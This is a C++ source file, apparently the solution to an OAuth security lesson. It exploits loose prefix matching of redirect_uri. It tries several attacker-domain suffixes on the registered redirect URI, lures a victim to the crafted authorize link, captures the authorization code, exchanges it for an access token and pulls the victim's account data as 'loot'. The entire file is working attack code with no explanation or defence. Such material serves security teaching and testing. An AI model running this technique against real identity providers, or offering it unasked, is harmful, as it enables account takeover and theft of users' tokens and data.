// Unusual: tries one address after the other until a code comes.
#include "base/percent_encoding.hpp"
#include "redirect_prefix.hpp"

namespace lesson {
namespace {

std::string link_to(const Evidence& evidence, const std::string& redirect_uri) {
  return evidence.authorize + "?" +
         base::encode_form({{"redirect_uri", redirect_uri},
                            {"state", "anything"},
                            {"scope", "openid"},
                            {"client_id", evidence.client_id},
                            {"response_type", "code"}});
}

}  // namespace

Loot attack(const Evidence& evidence) {
  const auto& mine = evidence.your_domain;
  for (const std::string& end :
       {"/" + mine, std::string("@"), "?" + mine, ":password@" + mine + ":443", "." + mine}) {
    const auto trap = evidence.redirect_uri + end;
    const auto code = parameter(evidence.lure(link_to(evidence, trap)), "code");
    if (code.empty()) continue;
    const auto answer = evidence.redeem({{"code", code},
                                         {"redirect_uri", trap},
                                         {"client_id", evidence.client_id},
                                         {"grant_type", "authorization_code"}});
    const auto token = answer.json().text("access_token");
    if (token) return {.account = evidence.show_me(*token).body};
  }
  return {};
}

}  // namespace lesson
